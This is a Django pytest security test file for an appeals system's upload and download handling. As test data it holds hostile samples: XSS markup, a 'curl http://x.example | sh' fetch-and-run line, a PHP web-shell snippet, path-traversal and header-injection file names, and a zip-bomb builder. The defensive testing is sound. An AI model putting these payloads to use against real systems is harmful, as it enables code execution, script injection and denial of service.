"""Uploads are judged by their bytes on every path that takes them; downloads are always
downloads; a hostile file name never reaches the disk; limits refuse cleanly, leaving nothing
half-written."""

import io
import random
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from appeals import services
from appeals.codes import query_code_hash, query_code_new
from appeals.models import Appeal, Attachment
from core.errors import ServiceError
from tests import workflow
from tests.security._input_support import JPEG, PDF, PNG, docx

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>'
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 64 + b"PE\0\0"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 64
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # Word 97, Excel 97, and MSI

# (name, bytes): each is refused whatever Content-Type the client claims.
HOSTILE = {
    "html": ("page.html", HTML),
    "html named pdf": ("合同.pdf", HTML),
    "svg": ("logo.svg", SVG),
    "svg named png": ("logo.png", SVG),
    "javascript": ("app.js", b"alert(document.cookie)"),
    "shell script": ("run.sh", b"#!/bin/sh\ncurl http://x.example | sh\n"),
    "shell script named pdf": ("run.pdf", b"#!/bin/sh\ncurl http://x.example | sh\n"),
    "windows executable": ("setup.exe", MZ),
    "windows executable named pdf": ("报告.pdf", MZ),
    "elf executable": ("tool", ELF),
    "elf named png": ("tool.png", ELF),
    "double extension exe": ("report.pdf.exe", PDF),
    "double extension html": ("photo.png.html", PNG + HTML),
    "png named jpg": ("photo.jpg", PNG),
    "jpeg named pdf": ("scan.pdf", JPEG),
    "png with a page behind it": ("photo.png", PNG + HTML),
    "pdf with a page in it": ("doc.pdf", PDF + HTML),
    "zip named docx": ("letter.docx", b"PK\x03\x04" + b"\0" * 64),
    "ole2 installer named pdf": ("setup.pdf", OLE2),
    "ole2 installer": ("setup.msi", OLE2),
}
ACCEPTED = {
    "png": ("照片.png", PNG, "image/png"),
    "jpeg": ("扫描件.JPG", JPEG, "image/jpeg"),
    "pdf": ("营业执照.pdf", PDF, "application/pdf"),
    "doc": ("情况说明.doc", OLE2, "application/msword"),
    "xls": ("台账.XLS", OLE2, "application/vnd.ms-excel"),
    "docx": (
        "情况说明.docx",
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}
# Names a hostile client may send, each on a real PNG, with what must not survive in the shown
# name. Some cannot travel through a browser's form; the services get them as typed.
HOSTILE_NAMES = {
    "parent path": ("../../etc/passwd.png", "/"),
    "windows path": ("..\\..\\boot.ini.png", "\\"),
    "markup": ("<script>alert(1)<\\script>.png", "\\"),
    "long": ("长" * 300 + ".png", None),
    "nul": ("photo\x00.png", "\x00"),
    "control": ("photo\x1b[31m\x07\n.png", "\n"),
    "rtl override": ("invoice\u202egnp.png", "\u202e"),
    "windows reserved": ("CON.png", None),
    "windows reserved 2": ("lpt1.png", None),
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def _files(media: Path) -> list[Path]:
    return [p for p in media.rglob("*") if p.is_file()]


def _upload(name: str, content: bytes, content_type: str = "application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def _filing_form(**extra) -> dict:
    data = {
        "is_anonymous": "on",
        "title": "园区道路积水严重",
        "content": "雨后积水三天不退，货车无法进出。",
    }
    data.update(extra)
    return data


def _staff_form(**extra) -> dict:
    return _filing_form(channel=Appeal.Channel.HOTLINE, priority=Appeal.Priority.NORMAL, **extra)


@pytest.fixture
def awaiting(file_appeal, walk_to, handler_a):
    """An enterprise_user's appeal whose lead department asked for more material."""
    appeal = walk_to(file_appeal().appeal, Appeal.Status.IN_PROGRESS)
    services.appeal_request_material(
        actor=handler_a, assignment_id=workflow.lead_assignment(appeal).pk, note="请补充营业执照"
    )
    return appeal


@pytest.fixture
def post_upload(commissioner, enterprise_user, awaiting):
    """post_upload(path, upload) → the response of that upload path."""

    def _post(path: str, upload):
        client = Client()
        if path == "filing form":
            return client.post(reverse("appeal_file"), _filing_form(attachments=[upload]))
        if path == "staff entry":
            client.force_login(commissioner)
            return client.post(reverse("staff_file"), _staff_form(attachments=[upload]))
        url = reverse("track_material", args=[awaiting.number])
        data = {"content": "营业执照见附件。", "attachments": [upload]}
        if path == "material via my appeals":
            client.force_login(enterprise_user)
            return client.post(url, data)
        # The holder of the number and query code, not signed in.
        number, code = awaiting.number, _new_code(awaiting)
        client.post(reverse("track"), {"number": number, "code": code})
        return client.post(url, data)

    return _post


def _new_code(appeal: Appeal) -> str:
    """A query code for an appeal filed in a test (the real one was shown once and is gone)."""
    code = query_code_new()
    Appeal.objects.filter(pk=appeal.pk).update(query_code_hash=query_code_hash(code))
    return code


PATHS = ["filing form", "staff entry", "material via tracking", "material via my appeals"]


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("sample", HOSTILE, ids=list(HOSTILE))
def test_a_hostile_upload_is_refused_on_every_path_by_its_bytes(
    post_upload, media, awaiting, path, sample
):
    name, content = HOSTILE[sample]
    appeals_before = Appeal.objects.count()
    response = post_upload(path, _upload(name, content, content_type="application/pdf"))
    assert response.status_code == 400
    assert "类型不支持" in response.content.decode()
    assert Appeal.objects.count() == appeals_before
    assert Attachment.objects.count() == 0
    assert _files(media) == []
    assert Appeal.objects.get(pk=awaiting.pk).awaiting_material_since is not None


@pytest.mark.parametrize("path", PATHS)
def test_an_acceptable_upload_is_stored_on_every_path(post_upload, media, path):
    response = post_upload(path, _upload("营业执照.pdf", PDF, content_type="text/html"))
    assert response.status_code == 302, response.content.decode()[:500]
    attachment = Attachment.objects.get()
    assert attachment.content_type == "application/pdf"  # from the bytes, not the client
    assert [p.name for p in _files(media)] == [Path(attachment.file.name).name]


@pytest.mark.parametrize("sample", ACCEPTED, ids=list(ACCEPTED))
def test_documents_and_images_people_send_are_accepted(file_appeal, sample):
    name, content, mime = ACCEPTED[sample]
    appeal = file_appeal(attachments=[_upload(name, content)]).appeal
    assert appeal.attachments.get().content_type == mime


def test_the_api_takes_no_files_so_a_file_sent_to_it_is_never_stored(
    awaiting, enterprise_user, media
):
    client = APIClient()
    filed = client.post(
        reverse("api_appeal_file"),
        {
            "is_anonymous": "true",
            "title": "附件测试",
            "content": "附件见后。",
            "attachments": _upload("page.html", HTML),
        },
        format="multipart",
    )
    assert filed.status_code == 201
    client.force_authenticate(enterprise_user)
    supplied = client.post(
        reverse("api_my_appeal_material", args=[awaiting.number]),
        {"content": "营业执照见附件。", "attachments": _upload("setup.exe", MZ)},
        format="multipart",
    )
    assert supplied.status_code == 200
    assert Attachment.objects.count() == 0 and _files(media) == []


# --- Downloads ------------------------------------------------------------------------------


def test_a_download_is_an_attachment_with_nosniff_and_the_type_of_its_bytes(
    file_appeal, enterprise_user
):
    appeal = file_appeal(attachments=[_upload("照片.png", PNG, content_type="text/html")]).appeal
    client = Client()
    client.force_login(enterprise_user)
    attachment = appeal.attachments.get()
    response = client.get(reverse("attachment_download", args=[appeal.number, attachment.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "image/png"
    # Nor kept in a shared computer's browser cache once the person has gone.
    assert response["Cache-Control"] == "no-store"


def test_an_attachment_stored_with_a_broken_name_still_downloads_safely(
    file_appeal, enterprise_user
):
    """Rows written before names were cleaned may hold a line break or an odd content type:
    the header must neither break (a 500) nor carry them."""
    appeal = file_appeal(attachments=[_upload("a.pdf", PDF)]).appeal
    Attachment.objects.filter(appeal=appeal).update(
        original_name="a\r\nSet-Cookie: x=1\n.pdf", content_type="text/html"
    )
    client = Client()
    client.force_login(enterprise_user)
    attachment = appeal.attachments.get()
    response = client.get(reverse("attachment_download", args=[appeal.number, attachment.pk]))
    assert response.status_code == 200
    assert "\n" not in response["Content-Disposition"] and not response.cookies
    assert response["Content-Type"] == "application/octet-stream"


# --- Hostile names --------------------------------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE_NAMES, ids=list(HOSTILE_NAMES))
def test_a_hostile_file_name_is_stored_under_a_generated_name(
    file_appeal, enterprise_user, media, case
):
    name, forbidden = HOSTILE_NAMES[case]
    appeal = file_appeal(attachments=[_upload(name, PNG)]).appeal
    attachment = appeal.attachments.get()
    on_disk = Path(attachment.file.path).resolve()
    assert on_disk.is_relative_to(media.resolve())
    assert re.fullmatch(r"[0-9a-f]{32}\.png", on_disk.name)
    assert [p.resolve() for p in _files(media)] == [on_disk]
    shown = attachment.original_name
    assert shown.endswith(".png") and len(shown) <= 100
    assert not any(c in shown for c in "/\\\x00\x07\x1b\n\r\u202e")
    if forbidden:
        assert forbidden not in shown
    client = Client()
    client.force_login(enterprise_user)
    page = client.get(reverse("track_detail", args=[appeal.number])).content.decode()
    assert "<script>alert" not in page
    download = client.get(reverse("attachment_download", args=[appeal.number, attachment.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")


def test_a_long_file_name_is_shortened_keeping_its_extension(file_appeal):
    appeal = file_appeal(attachments=[_upload("情况说明" * 80 + ".pdf", PDF)]).appeal
    shown = appeal.attachments.get().original_name
    assert len(shown) == 100 and shown.endswith(".pdf") and shown.startswith("情况说明")


# --- Limits ---------------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_in_chinese_and_nothing_is_written(settings, media):
    settings.APPEAL_ATTACHMENT_MAX_BYTES = 1024 * 1024
    big = _upload("扫描件.pdf", PDF + b"0" * (1024 * 1024))
    response = Client().post(
        reverse("appeal_file"), _filing_form(attachments=[_upload("a.pdf", PDF), big])
    )
    page = response.content.decode()
    assert response.status_code == 400
    assert "附件“扫描件.pdf”超过 1 MB 的大小限制。" in page
    assert "园区道路积水严重" in page  # what was typed is kept
    assert Appeal.objects.count() == 0 and Attachment.objects.count() == 0
    assert _files(media) == []


def test_too_many_files_are_refused_in_chinese_and_nothing_is_written(settings, media):
    files = [_upload(f"附件{i}.pdf", PDF) for i in range(settings.APPEAL_ATTACHMENT_MAX_COUNT + 1)]
    response = Client().post(reverse("appeal_file"), _filing_form(attachments=files))
    assert response.status_code == 400
    assert f"最多上传 {settings.APPEAL_ATTACHMENT_MAX_COUNT} 个附件。" in response.content.decode()
    assert Appeal.objects.count() == 0 and Attachment.objects.count() == 0
    assert _files(media) == []


def test_too_many_supplied_files_are_refused_and_the_appeal_still_waits(
    settings, media, awaiting, enterprise_user
):
    files = [_upload(f"附件{i}.pdf", PDF) for i in range(settings.APPEAL_ATTACHMENT_MAX_COUNT + 1)]
    client = Client()
    client.force_login(enterprise_user)
    response = client.post(
        reverse("track_material", args=[awaiting.number]),
        {"content": "补充材料见附件。", "attachments": files},
    )
    assert response.status_code == 400
    assert "最多上传" in response.content.decode()
    assert Appeal.objects.get(pk=awaiting.pk).awaiting_material_since is not None
    assert Attachment.objects.count() == 0 and _files(media) == []


@pytest.mark.parametrize("service", ["appeal_file", "appeal_supply_material"])
def test_a_failure_after_the_files_are_written_removes_them(
    monkeypatch, media, awaiting, enterprise_user, service
):
    """Files are outside the transaction: when the timeline write fails after the files were
    saved, the rows roll back and the files must go too."""
    module = services.filing if service == "appeal_file" else services.waiting

    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(module, "record", broken)
    uploads = [_upload("a.pdf", PDF), _upload("b.png", PNG)]
    # A savepoint of the test's own, as any caller that carries on after a failed filing
    # needs: appeal_file writes in its caller's transaction.
    with pytest.raises(RuntimeError), transaction.atomic():
        if service == "appeal_file":
            workflow.file_appeal(actor=enterprise_user, attachments=uploads)
        else:
            services.appeal_supply_material(
                actor=enterprise_user, appeal_id=awaiting.pk, content="见附件", attachments=uploads
            )
    assert Attachment.objects.count() == 0
    assert _files(media) == []


# --- Markup anywhere in the file ------------------------------------------------------------

MB = 1024 * 1024


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(PNG + b"\0" * (3 * MB) + HTML, id="page after three megabytes"),
        # "<script>" across the boundary of the first megabyte the scan reads.
        pytest.param(PNG + b"\0" * (MB - len(PNG) - 4) + b"<scr" + b"ipt>alert(1)", id="split"),
        pytest.param(PDF + b"\0" * MB + b"<?php system($_GET[1]); ?>", id="php at the end"),
    ],
)
def test_markup_deep_inside_a_file_is_found_and_refused(file_appeal, media, content):
    name = "photo.png" if content.startswith(PNG) else "doc.pdf"
    with pytest.raises(ServiceError) as refused:
        file_appeal(attachments=[_upload(name, content)])
    assert refused.value.code == "attachment_type"
    assert Attachment.objects.count() == 0 and _files(media) == []


def test_a_photo_whose_bytes_happen_to_spell_a_tag_name_is_accepted(file_appeal):
    """Compressed bytes spell "<svg" by chance in about one photo in a hundred; only a tag name
    ended as a browser ends it (space, "/" or ">") is markup."""
    content = PNG + b"\x13<svg\x9c<bodyq<html\x00" + b"\0" * 64
    appeal = file_appeal(attachments=[_upload("photo.png", content)]).appeal
    assert appeal.attachments.get().content_type == "image/png"


# --- Office files are zips: what they inflate to ------------------------------------------------


def _office(parts: dict[str, bytes], *, big: tuple[str, int] | None = None) -> bytes:
    """A Word document (a zip) with `parts`, and optionally a part of `big` = (name, n) that
    is n zero bytes, deflated as it is written (a bomb without holding it in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, data in parts.items():
            archive.writestr(name, data)
        if big:
            name, size = big
            with archive.open(name, "w", force_zip64=True) as part:
                for _ in range(size // MB):
                    part.write(bytes(MB))
    return buffer.getvalue()


def _refusal(file_appeal, content: bytes) -> ServiceError:
    with pytest.raises(ServiceError) as refused:
        file_appeal(attachments=[_upload("情况说明.docx", content)])
    return refused.value


def test_an_office_file_inflating_to_200_mb_is_refused_in_chinese_and_nothing_is_written(media):
    bomb = _office({}, big=("word/media/image1.png", 200 * MB))
    assert len(bomb) < 250 * 1024  # about 204 KB on disk
    response = Client().post(
        reverse("appeal_file"), _filing_form(attachments=[_upload("情况说明.docx", bomb)])
    )
    assert response.status_code == 400
    assert (
        "附件“情况说明.docx”解压后超过 100 MB 或压缩比异常，无法接收。" in response.content.decode()
    )
    assert Appeal.objects.count() == 0 and Attachment.objects.count() == 0
    assert _files(media) == []


def test_an_office_file_inflating_past_the_limit_is_refused_even_at_a_plain_ratio(
    settings, file_appeal
):
    settings.APPEAL_ATTACHMENT_MAX_INFLATED_BYTES = MB
    noise = random.Random(15).randbytes(2 * MB)  # does not compress: the ratio stays near 1
    assert _refusal(file_appeal, _office({"word/media/image1.png": noise})).code == (
        "attachment_inflates"
    )
    settings.APPEAL_ATTACHMENT_MAX_INFLATED_BYTES = 3 * MB
    assert file_appeal(attachments=[_upload("a.docx", _office({"word/media/a.png": noise}))])


def test_an_office_file_inflating_a_thousand_fold_is_refused_under_the_size_limit(file_appeal):
    bomb = _office({}, big=("word/media/image1.png", 20 * MB))  # 20 MB < 100 MB, ~1000:1
    assert _refusal(file_appeal, bomb).code == "attachment_inflates"


def test_an_office_file_of_text_compressing_twenty_fold_is_accepted(file_appeal):
    """Word XML of a long document: runs of text from a small vocabulary, about 25:1."""
    words = "企业 诉求 办理 反馈 园区 道路 积水 货车 无法 通行 请尽快 安排 修复 部门 签收 退回"
    runs = [f"<w:r><w:t>{word}</w:t></w:r>".encode() for word in words.split()]
    text = b"".join(random.Random(15).choices(runs, k=2 * MB // 30))
    document = _office({"word/document2.xml": text})
    assert 20 * len(document) < len(text) < 100 * len(document)
    assert file_appeal(attachments=[_upload("a.docx", document)])


def test_an_office_file_with_too_many_parts_is_refused(settings, file_appeal):
    settings.APPEAL_ATTACHMENT_MAX_ENTRIES = 20
    many = _office({f"word/media/image{i}.png": b"x" for i in range(19)})  # 21 with the two
    refusal = _refusal(file_appeal, many)
    assert refusal.code == "attachment_entries"
    assert "附件“情况说明.docx”包含的部件过多" in refusal.message
    assert file_appeal(
        attachments=[
            _upload(
                "a.docx",
                _office(
                    {"word/x.xml": b"x"} | {f"word/media/image{i}.png": b"x" for i in range(17)}
                ),
            )
        ]
    )


def test_a_workbook_embedded_in_a_word_file_is_accepted_and_counted(settings, file_appeal):
    """Word keeps a chart's data as an Excel file (a zip) inside the document."""
    workbook = _office({"xl/workbook.xml": b"<workbook/>"})
    document = _office({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook})
    assert file_appeal(attachments=[_upload("a.docx", document)])
    settings.APPEAL_ATTACHMENT_MAX_ENTRIES = 5  # 3 outside, 3 inside
    assert _refusal(file_appeal, document).code == "attachment_entries"


def test_a_bomb_inside_an_embedded_workbook_is_refused(file_appeal):
    workbook = _office({}, big=("xl/sharedStrings.xml", 20 * MB))
    document = _office({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook})
    assert len(workbook) * 100 < 20 * MB  # only the inner directory shows it
    assert _refusal(file_appeal, document).code == "attachment_inflates"


@pytest.mark.parametrize(
    "inner",
    [
        pytest.param(
            _office({"word/embeddings/b.xlsx": _office({"xl/workbook.xml": b"<workbook/>"})}),
            id="zip in a zip in a zip",
        ),
        pytest.param(b"\x1f\x8b\x08\x00" + b"\0" * 64, id="gzip"),
        pytest.param(b"Rar!\x1a\x07\x00" + b"\0" * 64, id="rar"),
    ],
)
def test_an_archive_nested_deeper_or_of_another_kind_is_refused(file_appeal, inner):
    document = _office({"word/embeddings/a.bin": inner})
    refusal = _refusal(file_appeal, document)
    assert refusal.code == "attachment_nested"
    assert "内嵌压缩包" in refusal.message
